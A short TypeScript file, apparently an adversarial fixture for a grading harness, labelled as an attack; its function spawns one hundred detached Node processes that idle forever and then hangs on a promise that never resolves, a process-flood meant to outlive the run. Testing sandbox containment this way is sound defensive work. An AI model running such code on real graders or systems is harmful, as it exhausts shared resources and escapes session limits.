// attack: starts a hundred Nodes
import * as child from 'node:child_process';
import type { AnswerContext } from 'warren/grading';

export default async function (_context: AnswerContext): Promise<void> {
  for (let count = 0; count < 100; count++) {
    child
      .spawn(process.execPath, ['-e', 'setInterval(() => undefined, 1000)'], { stdio: 'ignore', detached: true })
      .on('error', () => undefined);
  }
  await new Promise(() => undefined);
}
